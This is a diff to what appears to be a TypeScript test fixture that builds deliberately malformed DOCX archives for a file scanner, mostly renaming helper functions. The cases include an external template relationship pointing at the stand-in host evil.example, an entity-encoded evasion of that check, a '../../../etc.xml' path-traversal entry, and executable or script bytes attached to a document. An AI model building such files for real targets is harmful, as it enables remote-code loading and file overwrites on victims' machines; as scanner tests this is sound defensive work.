@@ -1,12 +1,12 @@
 import { crc32 } from 'node:zlib';
 import { archive, docxParts, odtParts } from '../worlds/test-files.ts';
-import { CANARY, type HostileFile, MEGABYTE, patched, SCRIPT, text } from './hostile-kit.ts';
+import { CANARY, type HostileFile, MEGABYTE, patchFile, SCRIPT, utf8 } from './hostile-kit.ts';
 
 async function docx(extra: Parameters<typeof archive>[0], body?: string): Promise<Buffer> {
   return archive({ ...docxParts(body), ...extra });
 }
 
-const relationships = (tag: string) =>
+const relationshipsPart = (tag: string) =>
   `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${tag}</Relationships>`;
 
 /** Archives that claim to be documents. */
@@ -18,8 +18,8 @@ export async function hostileArchives(): Promise<HostileFile[]> {
   );
   const external =
     '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>';
-  const slip = patched(
-    patched(await docx({ 'word/aaaaaaa.xml': '<a/>' }), 'word/aaaaaaa.xml', '../../../etc.xml'),
+  const slip = patchFile(
+    patchFile(await docx({ 'word/aaaaaaa.xml': '<a/>' }), 'word/aaaaaaa.xml', '../../../etc.xml'),
     'word/aaaaaaa.xml',
     '../../../etc.xml',
   );
@@ -55,13 +55,13 @@ export async function hostileArchives(): Promise<HostileFile[]> {
     },
     {
       name: 'a DOCX with a template from elsewhere',
-      file: await docx({ 'word/_rels/settings.xml.rels': relationships(external) }),
+      file: await docx({ 'word/_rels/settings.xml.rels': relationshipsPart(external) }),
       expected: ['active_content'],
     },
     {
       name: 'a DOCX whose reach is written in figures',
       file: await docx({
-        'word/_rels/settings.xml.rels': relationships(external.replace('External', '&#69;xternal')),
+        'word/_rels/settings.xml.rels': relationshipsPart(external.replace('External', '&#69;xternal')),
       }),
       expected: ['active_content'],
     },
@@ -100,12 +100,12 @@ export async function hostileArchives(): Promise<HostileFile[]> {
     },
     {
       name: 'a DOCX with a program before it',
-      file: Buffer.concat([text('MZ'), good]),
+      file: Buffer.concat([utf8('MZ'), good]),
       expected: ['type_not_taken'],
     },
     {
       name: 'a DOCX with something behind it',
-      file: Buffer.concat([good, text(SCRIPT)]),
+      file: Buffer.concat([good, utf8(SCRIPT)]),
       expected: ['ambiguous'],
     },
     { name: 'a DOCX cut in half', file: good.subarray(0, good.length >> 1), expected: ['damaged'] },
@@ -147,7 +147,7 @@ async function duplicateNames(): Promise<HostileFile[]> {
   const expected = ['ambiguous'];
   const link =
     '<Relationship Id="r1" Type="a/hyperlink" Target="https://evil.example/a.png" TargetMode="External"/>';
-  const [loading, nothing] = [relationships(link), relationships('')];
+  const [loading, nothing] = [relationshipsPart(link), relationshipsPart('')];
   const body = '<w:p><a:blip r:link="r1"/></w:p>';
   return [
     {
@@ -189,7 +189,7 @@ function withSecondName(file: Buffer, name: string, second: string): Buffer {
   field.writeUInt16LE(5 + second.length, 2);
   field.writeUInt8(1, 4);
   field.writeUInt32LE(crc32(name), 5);
-  const extra = Buffer.concat([field, text(second)]);
+  const extra = Buffer.concat([field, utf8(second)]);
   const offset = at + name.length;
   const copy = Buffer.concat([file.subarray(0, offset), extra, file.subarray(offset)]);
   copy.writeUInt16LE(extra.length, at - 16);
@@ -209,7 +209,7 @@ function withFalseSize(file: Buffer, size: number): Buffer {
 }
 
 function patchedInBoth(file: Buffer, from: string, to: string): Buffer {
-  return patched(patched(file, from, to), from, to);
+  return patchFile(patchFile(file, from, to), from, to);
 }
 
 /** Sets the "encrypted" bit of the first entry. */
